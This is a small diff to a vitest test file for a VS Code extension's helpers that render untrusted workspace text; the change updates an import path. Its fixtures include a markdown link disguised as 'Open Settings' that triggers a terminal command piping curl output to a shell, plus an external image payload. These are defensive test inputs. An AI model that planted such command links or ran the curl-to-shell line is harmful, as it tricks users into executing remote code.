@@ -1,7 +1,7 @@
 // Text from a model folder or a workspace, shown in VS Code's UI: with link, image and HTML
 // payloads it must come out as the characters it holds, never as a link, an image or markup.
 import { describe, expect, it } from 'vitest';
-import { labelText, markdownCode, markdownText, plainText, visibleWhitespace } from '../../src/text/untrusted';
+import { labelText, markdownCode, markdownText, plainText, visibleWhitespace } from '../../src/host/text/untrusted';
 
 const LINK = '[Open Settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
 const IMAGE = '![](https://example.invalid/x.png)';
